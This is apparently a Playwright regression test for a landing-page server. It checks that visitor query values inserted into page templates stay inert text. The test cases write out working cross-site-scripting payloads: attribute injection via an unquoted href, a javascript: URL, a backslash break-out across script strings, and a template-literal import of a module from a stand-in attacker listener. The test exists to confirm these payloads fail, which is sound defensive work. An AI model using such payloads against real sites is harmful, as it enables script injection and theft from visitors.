// Visitor query values must never become script inside a landing (issue 25, finding 2), in a real headless
// Chromium against a real svc server (either engine). One landing holds a macro in each place the attacks
// used: an unquoted href, a quoted href, two script strings on one line, a template literal. Each payload
// would call window.pwned (a binding into this test, present in every page and frame, sandboxed or not) or
// load a module from an "attacker" listener; nothing may do either, while ordinary values still show.
import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import type { Browser, BrowserContext, Page } from 'playwright-core'
import { launchBrowser } from '../helpers/browser'
import { startListener, type Listener } from '../helpers/listener'
import { startServer, type TestServer } from '../helpers/server'
import { SERVER_TIMEOUT_MS } from '../tracking/seed'

let s: TestServer
let browser: Browser
let evil: Listener
let slug: string
/** What the payloads managed to call: each names itself. */
const pwned: string[] = []
const contexts: BrowserContext[] = []

const LANDING = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Offer {sub1}</title></head><body>
<h1 id="hello">Hello {sub1}</h1>
<a id="unquoted" href={next2}>next</a>
<a id="quoted" href="{next}">continue</a>
<a id="rel" href="{rel}">rel</a> <a id="abs" href='{abs}'>abs</a>
<script>var a='{qa}', b='{qb}'; window.seen = [a, b]</script>
<script>var t = \`{t}\`; window.tpl = t</script>
</body></html>`

beforeAll(async () => {
  // The attacker's module host: it would be asked for /x.js if a value ever became script.
  evil = startListener((req) => req.url.pathname === '/x.js'
    ? new Response('window.pwned("module")', { headers: { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' } })
    : new Response('no', { status: 404 }))
  s = await startServer()
  browser = await launchBrowser()
  slug = `macros-${Date.now().toString(36)}`
  const create = async (path: string, body: unknown) => {
    const res = await s.api('POST', path, body)
    expect(res.status).toBe(201)
    return res.body
  }
  // In a campaign, so that a visit makes a click and {sub1} comes from it.
  const landing = await create('/admin/api/landings', { name: 'Macro contexts', slug, html: LANDING })
  const source = await create('/admin/api/sources', { name: `Source ${slug}` })
  const offer = await create('/admin/api/offers', { name: `Offer ${slug}`, slug: `offer-${slug}`, url: 'https://offer.example/o?c={click_id}', payout: 1, currency: 'USD' })
  await create('/admin/api/campaigns', { name: `Campaign ${slug}`, slug: `camp-${slug}`, source_id: source.id, offer_id: offer.id, landing_id: landing.id })
}, SERVER_TIMEOUT_MS)

afterAll(async () => {
  for (const c of contexts) await c.close().catch(() => {})
  await browser?.close()
  evil?.stop()
  await s?.destroy()
}, SERVER_TIMEOUT_MS)

async function open(query: Record<string, string>): Promise<Page> {
  // A desktop user agent: headless Chromium's own is taken for a bot.
  const context = await browser.newContext({ userAgent: `Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${browser.version().split('.')[0]}.0.0.0 Safari/537.36` })
  contexts.push(context)
  await context.exposeFunction('pwned', (what: unknown) => { pwned.push(String(what)) })
  const page = await context.newPage()
  page.on('dialog', (d) => { pwned.push(`dialog:${d.message()}`); void d.dismiss() })
  const res = await page.goto(`${s.base}/lp/${slug}?${new URLSearchParams(query)}`)
  expect(res!.status()).toBe(200)
  await page.waitForLoadState('load')
  return page
}

/** Time for anything a payload started (a focus handler, a module load) to have happened. */
const settle = () => Bun.sleep(400)

describe('visitor values in a landing stay values', () => {
  test('an unquoted href cannot add attributes: no onfocus handler, no autofocus, nothing runs', async () => {
    const before = pwned.length
    const next2 = 'x autofocus onfocus=pwned("autofocus") tabindex=1'
    const page = await open({ next2 })
    await settle()
    expect(pwned.slice(before)).toEqual([])
    const link = await page.evaluate(() => {
      const a = document.getElementById('unquoted')!
      return { href: a.getAttribute('href'), onfocus: a.hasAttribute('onfocus'), autofocus: a.hasAttribute('autofocus'), focused: document.activeElement === a }
    })
    expect(link).toEqual({ href: next2, onfocus: false, autofocus: false, focused: false })
  })

  test('a javascript: URL in a quoted href becomes about:blank: following the link runs nothing', async () => {
    const before = pwned.length
    const page = await open({ next: 'javascript:pwned("href")' })
    expect(await page.getAttribute('#quoted', 'href')).toBe('about:blank')
    await page.click('#quoted')
    await settle()
    expect(pwned.slice(before)).toEqual([])
  })

  test('two values on one script line cannot join (a backslash, then code): both stay strings', async () => {
    const before = pwned.length
    const page = await open({ qa: '\\', qb: ';pwned(document.domain)//' })
    await settle()
    expect(pwned.slice(before)).toEqual([])
    expect(await page.evaluate(() => (window as any).seen)).toEqual(['\\', ';pwned(document.domain)//'])
  })

  test('a template literal\'s ${…} stays text: the attacker\'s module is never loaded', async () => {
    const before = pwned.length
    // No quotes in the payload (the old escaping took those): the URL is built from character codes.
    const url = `${evil.base}/x.js`
    const t = `\${import(String.fromCharCode(${[...url].map((c) => c.charCodeAt(0)).join(',')}))}`
    const page = await open({ t })
    await settle()
    expect(pwned.slice(before)).toEqual([])
    expect(evil.received.map((r) => r.url.pathname)).toEqual([])
    expect(await page.evaluate(() => (window as any).tpl)).toBe(t)
  })

  test('ordinary values still show: text, a script string with quotes and </script>, a relative and an https URL', async () => {
    const before = pwned.length
    const qa = `it's "fine" </script><b>`
    const page = await open({ sub1: 'Ada & <Bob>', qa, qb: 'ü€😀\u2028', rel: '/r/promo?click_id=1&x=2', abs: 'https://shop.example/p?a=1&b=2' })
    await settle()
    expect(pwned.slice(before)).toEqual([])
    expect(await page.textContent('#hello')).toBe('Hello Ada & <Bob>')
    expect(await page.title()).toBe('Offer Ada & <Bob>')
    expect(await page.evaluate(() => (window as any).seen)).toEqual([qa, 'ü€😀\u2028'])
    expect(await page.getAttribute('#rel', 'href')).toBe('/r/promo?click_id=1&x=2')
    expect(await page.getAttribute('#abs', 'href')).toBe('https://shop.example/p?a=1&b=2')
    expect(await page.evaluate(() => (document.getElementById('abs') as HTMLAnchorElement).href)).toBe('https://shop.example/p?a=1&b=2')
    // Absent values are left as the page wrote them (the old behaviour).
    expect(await page.getAttribute('#quoted', 'href')).toBe('{next}')
  })
})
